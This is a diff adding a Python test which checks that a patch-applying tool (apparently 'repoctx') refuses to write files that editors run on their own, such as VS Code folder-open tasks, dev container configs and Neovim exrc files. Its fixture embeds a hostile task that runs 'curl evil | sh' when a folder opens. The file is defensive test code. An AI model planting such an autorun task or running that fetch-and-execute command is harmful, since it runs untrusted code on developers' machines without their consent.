@@ -340,3 +340,31 @@ def test_a_fifo_planted_for_a_sealed_array_file_never_blocks(tmp_path):
         os.mkfifo(f)
     r = _cli("search", "total", cwd=repo)
     assert "a.py" in r.stdout and "Traceback" not in r.stderr, r.stderr
+
+
+#: Files an editor runs commands from without being asked: VS Code's folder-open tasks and the
+#: settings that name programs its extensions start, a dev container's create commands, Neovim's exrc.
+EDITOR_RUNS = [".vscode/tasks.json", "web/.vscode/tasks.json", ".VSCode/Tasks.JSON", ".vscode/settings.json",
+               ".devcontainer/devcontainer.json", ".devcontainer.json", ".nvim.lua", "sub/.exrc"]
+
+
+def test_apply_never_writes_a_file_an_editor_runs_when_a_folder_opens(tmp_path):
+    """A model's patch that adds (or changes) `.vscode/tasks.json` with a `"runOn": "folderOpen"` task
+    runs its command the next time the folder is opened in a trusted VS Code: such files are refused
+    like the hooks and programs git runs, in any letter case and in any subfolder (a workspace opened
+    there), even with --partial; the rest of the edit still applies."""
+    task = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}'
+    repo = make_repo(tmp_path / "r", {"a.py": "A = 1\n", ".vscode/tasks.json": '{"version": "2.0.0", "tasks": []}\n'})
+    patch = "".join(f"--- /dev/null\n+++ b/{p}\n@@ -0,0 +1 @@\n+{task}\n" for p in EDITOR_RUNS[1:])
+    patch += (f"--- a/.vscode/tasks.json\n+++ b/.vscode/tasks.json\n@@ -1 +1 @@\n-{{\"version\": \"2.0.0\", \"tasks\": []}}\n+{task}\n"
+              "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-A = 1\n+A = 2\n")
+    before = (repo / ".vscode/tasks.json").read_text()
+    r = subprocess.run([sys.executable, "-m", "repoctx", "apply", "-", "--partial"], cwd=repo, input=patch,
+                       capture_output=True, text=True, timeout=HANG_GUARD)
+    assert "Traceback" not in r.stderr, r.stderr
+    for path in EDITOR_RUNS:
+        said = [line for line in r.stdout.splitlines() if line.startswith(f"{path}: REFUSED: ")]
+        assert said and "a file an editor runs" in said[0], (path, r.stdout)
+        assert path == ".vscode/tasks.json" or not (repo / path).exists(), path
+    assert (repo / ".vscode/tasks.json").read_text() == before
+    assert (repo / "a.py").read_text() == "A = 2\n", r.stdout
